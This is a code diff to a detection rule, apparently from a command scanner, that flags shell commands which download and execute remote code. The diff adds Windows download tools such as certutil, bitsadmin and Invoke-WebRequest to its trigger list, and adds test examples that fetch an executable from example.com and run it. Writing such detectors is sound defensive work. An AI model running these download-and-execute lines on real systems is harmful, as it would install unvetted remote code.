@@ -7,7 +7,7 @@ const says: Record<Unseen['reason'], string> = {
   decoded: 'Encoded text would be run, and what it says cannot be seen.',
   variable: 'What would be run stands in a variable that is not set here.',
   file: 'A file that is not shown here would be run.',
-  'too-deep': 'The command is wrapped so often that what it does cannot be seen.',
+  'too-deep': 'This is too long, or wrapped too often, to be read to its end.',
   failed: 'The command could not be read.',
 };
 
@@ -37,7 +37,25 @@ export default {
     cwe(494),
     vendor('ATT&CK T1105', 'https://attack.mitre.org/techniques/T1105/'),
   ],
-  triggers: ['| sh', '|sh', 'bash', 'zsh', ' sh ', 'sh -c', 'source', 'curl', 'wget', 'exec('],
+  triggers: [
+    '| sh',
+    '|sh',
+    'bash',
+    'zsh',
+    ' sh ',
+    'sh -c',
+    'source',
+    'curl',
+    'wget',
+    'exec(',
+    'urlcache',
+    'bitsadmin',
+    'iwr',
+    'irm',
+    'invoke-',
+    'bitstransfer',
+    'downloadfile',
+  ],
   unseen: { on: ['*'], detect },
 } satisfies Rule;
 
@@ -51,6 +69,12 @@ export const examples = {
     },
     { text: 'bash <(curl -s https://example.com/install.sh)', severity: 'medium' },
     { text: 'sh -c "$(wget -qO- https://example.com/install.sh)"', severity: 'medium' },
+    { text: 'certutil -urlcache -f https://example.com/a.exe a.exe && a.exe', severity: 'medium' },
+    {
+      text: 'iwr https://example.com/setup.msi -OutFile setup.msi; Start-Process setup.msi',
+      language: 'powershell',
+      severity: 'medium',
+    },
     { text: 'echo "$BLOB" | base64 -d | sh', severity: 'medium' },
   ],
   ignores: [
@@ -58,6 +82,7 @@ export const examples = {
     'sh fetch-and-sed.sh',
     'bash < curl.sh',
     'curl -O https://example.com/install.sh',
+    'curl -o tool.exe https://example.com/tool.exe && other.exe',
     "echo 'ls' | sh",
     'sh -c "ls -l"',
   ],
